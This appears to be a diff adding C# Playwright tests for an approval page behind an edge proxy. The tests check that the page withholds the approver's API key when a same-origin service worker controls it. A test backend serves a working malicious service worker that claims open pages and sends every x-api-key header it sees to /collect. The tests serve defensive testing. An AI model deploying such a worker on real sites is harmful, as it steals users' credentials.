@@ -244,6 +244,24 @@ public sealed class ApproverPageTests(SystemChromium chromium) : IClassFixture<S
     }
 
     [Fact]
+    public async Task ApproverPage_HeaderNameEditedAfterSignIn_DecisionIsSentWithTheCredentialAsSignedIn()
+    {
+        // The sign-in form stays on screen. The header name was read again at every call, so a name edited after sign-in
+        // (here one fetch() cannot send) failed the decision as "The edge cannot be reached." before anything was sent.
+        Assertions.SetDefaultExpectTimeout(15_000);
+        using var backend = Backend.Start();
+        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
+        var (context, page) = await OpenWithOneRequestAsync(edge, PaymentPath);
+        await using var _ = context;
+
+        await page.GetByLabel("API key header").FillAsync("X Api Key");
+        await page.Locator("#approvals tbody tr").GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();
+
+        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Approved POST /payments/transfer.");
+        await Assertions.Expect(page.Locator("#token")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("\\."));
+    }
+
+    [Fact]
     public async Task ApproverPage_LongRequester_WrapsInsideTheWindowWithTheButtonsOnScreen()
     {
         Assertions.SetDefaultExpectTimeout(15_000);
@@ -303,6 +321,87 @@ public sealed class ApproverPageTests(SystemChromium chromium) : IClassFixture<S
 
         Assert.Equal("no handle", seen);
         Assert.Equal("same-origin", await response!.HeaderValueAsync("cross-origin-opener-policy"));
+    }
+
+    [Fact]
+    public async Task ApproverPage_ServiceWorkerOfABackendControlsIt_TakesNoCredential()
+    {
+        // Every backend behind the edge shares the page's origin. A service worker one of them registers at the root (a
+        // progressive web app does) controls the page too: it received the page's requests, the approver's key included.
+        Assertions.SetDefaultExpectTimeout(15_000);
+        using var backend = WorkerBackend();
+        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
+        await RequestApprovalAsync(edge.Client);
+        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
+        var portal = await context.NewPageAsync();
+        await portal.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/portal");
+        await Assertions.Expect(portal).ToHaveTitleAsync("installed");
+        var page = await context.NewPageAsync();
+        var requests = new List<string>();
+        page.Request += (_, request) => requests.Add(request.Url);
+        await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui/");
+        var controlled = await page.EvaluateAsync<bool>("() => navigator.serviceWorker.controller !== null");
+
+        await SignInAsync(page, BobKey);
+
+        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^A service worker of this origin"));
+        Assert.True(controlled);
+        Assert.Equal("", await page.GetByLabel("Approver credential").InputValueAsync());
+        Assert.True(await page.Locator("#approvals").IsHiddenAsync());
+        Assert.DoesNotContain(requests, url => url.Contains("/_edge/approvals?", StringComparison.Ordinal));
+        Assert.DoesNotContain(backend.Received, entry => entry.RequestMessage!.Path == "/collect");
+    }
+
+    [Fact]
+    public async Task ApproverPage_ServiceWorkerTakesControlAfterSignIn_SignsOutBeforeTheNextCall()
+    {
+        // The worker is installed from a backend page in another tab while the approver is signed in, and claims the open
+        // page: the page's next call, an approval with the key, went through it.
+        Assertions.SetDefaultExpectTimeout(15_000);
+        using var backend = WorkerBackend();
+        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
+        var (context, page) = await OpenWithOneRequestAsync(edge, PaymentPath);
+        await using var _ = context;
+        var portal = await context.NewPageAsync();
+        await portal.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/portal");
+        await Assertions.Expect(portal).ToHaveTitleAsync("installed");
+
+        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^A service worker of this origin"));
+        var controlled = await page.EvaluateAsync<bool>("() => navigator.serviceWorker.controller !== null");
+
+        Assert.True(controlled);
+        Assert.True(await page.Locator("#approvals").IsHiddenAsync());
+        Assert.True(await page.GetByRole(AriaRole.Button, new() { Name = "Sign out" }).IsHiddenAsync());
+        Assert.DoesNotContain(backend.Received, entry => entry.RequestMessage!.Path == "/collect");
+    }
+
+    /// <summary>
+    /// A backend whose page <c>/portal</c> installs a service worker for the whole origin that takes control of open pages
+    /// at once and reports every API key it sees to <c>/collect</c>.
+    /// </summary>
+    private static Backend WorkerBackend()
+    {
+        var backend = Backend.Start();
+        backend.Server.Given(WireMock.RequestBuilders.Request.Create().WithPath("/portal").UsingGet())
+            .RespondWith(WireMock.ResponseBuilders.Response.Create().WithHeader("Content-Type", "text/html").WithBody("""
+                <!doctype html><title>portal</title>
+                <script>
+                  navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready)
+                    .then(() => { document.title = 'installed'; }, (e) => { document.title = 'failed: ' + e; });
+                </script>
+                """));
+        backend.Server.Given(WireMock.RequestBuilders.Request.Create().WithPath("/sw.js").UsingGet())
+            .RespondWith(WireMock.ResponseBuilders.Response.Create().WithHeader("Content-Type", "text/javascript").WithBody("""
+                self.addEventListener('install', () => self.skipWaiting());
+                self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+                self.addEventListener('fetch', (event) => {
+                  const key = event.request.headers.get('x-api-key');
+                  if (key) {
+                    event.waitUntil(fetch('/collect?key=' + encodeURIComponent(key)));
+                  }
+                });
+                """));
+        return backend;
     }
 
     [Fact]
